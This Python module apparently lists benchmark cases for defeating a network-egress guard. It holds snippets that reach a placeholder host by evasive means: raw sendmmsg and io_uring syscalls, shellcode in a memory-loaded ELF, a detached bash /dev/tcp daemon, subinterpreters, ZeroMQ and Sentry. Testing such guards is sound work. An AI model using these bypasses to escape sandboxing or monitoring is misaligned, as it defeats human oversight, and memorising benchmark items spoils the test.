"""Ways out that were added after the guard was frozen: nobody made it see them."""

from benchmarks.ways import Way

_ADDRESS = "struct.pack('=H', 2) + struct.pack('!H', PORT) + socket.inet_aton(HOST)"

_SENDMMSG = f"""
libc = ctypes.CDLL(None)
to = ctypes.create_string_buffer({_ADDRESS}, 16)
text = ctypes.create_string_buffer(b'x')
piece = ctypes.create_string_buffer(struct.pack('PN', ctypes.addressof(text), 1))
head = ctypes.addressof(to), 16, ctypes.addressof(piece), 1, 0, 0, 0, 0
message = ctypes.create_string_buffer(struct.pack('PIPNPNqQ', *head))
libc.syscall(307, libc.syscall(41, 2, 2, 0), message, 1, 0)  # sendmmsg(socket(...), ...)
"""
_IO_URING = f"""
import mmap
libc, one = ctypes.CDLL(None), socket.socket()
params = ctypes.create_string_buffer(120)
ring = libc.syscall(425, 1, params)  # io_uring_setup
tail = struct.unpack_from('=I', params, 44)[0]
queue, entries = mmap.mmap(ring, 4096), mmap.mmap(ring, 4096, offset=0x10000000)
to = ctypes.create_string_buffer({_ADDRESS}, 16)
connect = 16, 0, 0, one.fileno(), 16, ctypes.addressof(to)
struct.pack_into('=BBHiQQ', entries, 0, *connect)
struct.pack_into('=I', queue, tail, 1)
libc.syscall(426, ring, 1, 1, 1, None, 0)  # io_uring_enter: one to submit, one to wait for
"""
_STATIC = f"""
code = (
    bytes.fromhex('b829000000 bf02000000 be01000000 31d2 0f05')  # socket(2, 1, 0)
    + bytes.fromhex('89c7 6a00 48b8') + {_ADDRESS}
    + bytes.fromhex('50 4889e6 ba10000000 b82a000000 0f05')  # connect(it, address, 16)
    + bytes.fromhex('31ff b83c000000 0f05')  # _exit(0)
)
size, base = 120 + len(code), 0x400000
elf = struct.pack('=4sBBB9xHHIQQQIHHHHHH', b'\\x7fELF', 2, 1, 1, 2, 62, 1, base + 120, 64, 0, 0,
                  64, 56, 1, 0, 0, 0)
load = struct.pack('=IIQQQQQQ', 1, 5, 0, base, base, size, size, 4096)
program = os.memfd_create('tool')
os.write(program, elf + load + code)
child = os.fork()
if not child:
    try: os.execve(program, ['tool'], {{}})
    finally: os._exit(1)
os.waitpid(child, 0)
"""
_DAEMON = """
ready, held = os.pipe()
os.set_inheritable(held, True)
child = os.fork()
if not child:
    try:
        os.setsid()
        if not os.fork():
            os.execvp('bash', ['bash', '-c', f': 2>/dev/null </dev/tcp/{HOST}/{PORT}'])
    finally: os._exit(0)
os.close(held)
os.waitpid(child, 0)
os.read(ready, 1)  # ends with the daemon
"""

FRESH: dict[str, Way] = {
    "IPv4-mapped IPv6": Way(
        "one = socket.socket(socket.AF_INET6); one.settimeout(2)\n"
        "one.connect((f'::ffff:{HOST}', PORT))"
    ),
    "getfqdn": Way(
        "os.environ['RES_OPTIONS'] = 'timeout:1 attempts:1'\nsocket.getfqdn(NAME)", "at import"
    ),
    "forkserver pool": Way(
        "context = multiprocessing.get_context('forkserver')\n"
        "with concurrent.futures.ProcessPoolExecutor(1, context) as pool:\n"
        "    pool.submit(socket.create_connection, (HOST, PORT), 2)",
        "in a thread",
    ),
    "subinterpreter": Way(
        "try: import _interpreters as interpreters\n"
        "except ImportError: import _xxsubinterpreters as interpreters\n"
        "one = interpreters.create()\n"
        "try: interpreters.run_string(one, CHILD)\n"
        "finally: interpreters.destroy(one)"
    ),
    "daemon, bash": Way(_DAEMON, needs="bash"),
    "static program": Way(_STATIC),
    "sendmmsg by number": Way(_SENDMMSG),
    "io_uring": Way(_IO_URING),
    "ZeroMQ": Way(
        "import zmq\n"
        "with zmq.Context() as context, context.socket(zmq.DEALER) as one:\n"
        "    one.linger = 0\n"
        "    one.connect(f'tcp://{HOST}:{PORT}')\n"
        "    time.sleep(0.3)",
        needs="pyzmq",
    ),
    "Sentry": Way(
        "import sentry_sdk\n"
        "sentry_sdk.init(f'http://key@{HOST}:{PORT}/1')\n"
        "sentry_sdk.capture_message('x')\n"
        "sentry_sdk.get_client().close(2)",
        "in a session fixture",
        needs="sentry-sdk",
    ),
}
"""Every one of them, by name."""
